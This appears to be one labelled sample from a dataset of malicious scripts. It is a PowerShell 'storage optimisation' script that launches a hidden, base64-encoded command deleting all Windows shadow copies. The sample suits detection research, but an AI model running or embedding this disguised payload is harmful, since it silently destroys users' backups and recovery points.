# description: "Storage optimisation" that launches an encoded PowerShell command deleting all shadow copies.
# family: destruction
# obfuscated: yes
Get-PSDrive C | Select-Object Used, Free
$enc = 'dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAAgAC8AcQB1AGkAZQB0AA=='
powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand $enc
Get-PSDrive C | Select-Object Used, Free
